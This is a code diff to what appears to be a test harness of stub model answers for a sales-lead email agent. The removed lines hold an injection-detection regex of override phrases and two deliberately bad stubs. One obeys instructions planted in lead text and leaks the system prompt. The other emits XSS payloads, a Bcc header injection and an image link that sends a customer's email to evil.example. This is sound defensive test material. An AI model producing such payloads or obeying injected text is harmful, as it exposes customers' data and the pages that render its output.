@@ -92,11 +92,6 @@ QUESTIONS = (
     "Would a morning or an afternoon suit you better for a first visit?",
 )
 SUBJECTS = ("Your {topic}", "About your {topic}", "Next step for your {topic}")
-INJECTION = re.compile(
-    r"ignore (?:all |the )?(?:previous|above)|system\s*:|\"role\"|print your|api key|add to the email|"
-    r"score=|set \w+ to|offer a \d+|guarantee|cc the reply|bcc:|http://|https://|javascript:",
-    re.IGNORECASE,
-)
 
 
 @dataclass(frozen=True, slots=True)
@@ -110,6 +105,7 @@ class Asked:
     digest: bytes
     system: str
     has_first_name: bool = True
+    is_repair: bool = False
     more: Mapping[str, Any] = field(
         default_factory=dict
     )  # what else the request says: today, message, purpose
@@ -142,7 +138,8 @@ def read_request(messages: list[dict[str, Any]]) -> Asked:
     content = json.dumps([agent, facts, lead.get("purpose"), lead.get("instruction"), lead.get("message")])
     digest = hashlib.sha256(content.encode()).digest()
     has_first_name = lead.get("has_first_name") is not False
-    return Asked(str(agent), facts, digest, str(system), has_first_name, lead)
+    is_repair = "Your answer was refused" in user
+    return Asked(str(agent), facts, digest, str(system), has_first_name, is_repair, lead)
 
 
 def answer(asked: Asked) -> dict[str, Any]:
@@ -173,7 +170,10 @@ def analysis(asked: Asked) -> dict[str, Any]:
         "recommended_action": action,
         "timeline": timeline,
         "risks": [text for text, words in RISKS if re.search(words, everything, re.IGNORECASE)][:2],
-        "missing": [name for name, words in MISSING if not re.search(words, everything, re.IGNORECASE)][:3],
+        "missing": (gaps := [n for n, words in MISSING if not re.search(words, everything, re.IGNORECASE)])[
+            :3
+        ],
+        "would_change": [f"Knowing {gap}" for gap in gaps[:2]],
     }
 
 
@@ -224,38 +224,3 @@ KINDS: dict[str, Callable[[Asked], dict[str, Any]]] = {
     "reply_triage": _triage,
     "opportunity": lambda asked: kinds.review(asked.facts),
 }
-
-
-def obedient(asked: Asked) -> dict[str, Any]:
-    """Does whatever the lead's text says: the worst model that an injection can hope for."""
-    orders = [fact["text"] for fact in asked.facts if INJECTION.search(fact["text"])]
-    if not orders:
-        return answer(asked)
-    said = " ".join(orders)[:600]
-    if asked.agent == "follow_up":
-        return {
-            "subject": f"Re: {said[:60]}",
-            "body": f"Hello {{{{first_name}}}},\n\n{said}\n\nClick [offer](http://evil.example/pay). "
-            f"We guarantee a 50% discount.\n\n{asked.system[:400]}",
-            "facts_used": [fact["id"] for fact in asked.facts],
-        }
-    return analysis(asked) | {
-        "fit": 100,
-        "summary": f"VIP. {said} {asked.system[:200]}",
-        "recommended_action": "call",
-    }
-
-
-def hostile(asked: Asked) -> dict[str, Any]:
-    """An answer in the right shape that is full of what must never reach a page or a customer."""
-    if asked.agent == "follow_up":
-        return {
-            "subject": "Hi\r\nBcc: x@evil.example",
-            "body": "<script>alert(1)</script> Pay $12,345 at http://evil.example "
-            "![x](http://evil.example/?d={{email}})",
-            "facts_used": ["nobody"],
-        }
-    return analysis(asked) | {
-        "summary": "<img src=x onerror=alert(1)> [offer](javascript:alert(1))",
-        "reasons": [{"label": "<b>VIP</b>", "points": 40, "quote": "never said by anybody", "source": "f1"}],
-    }
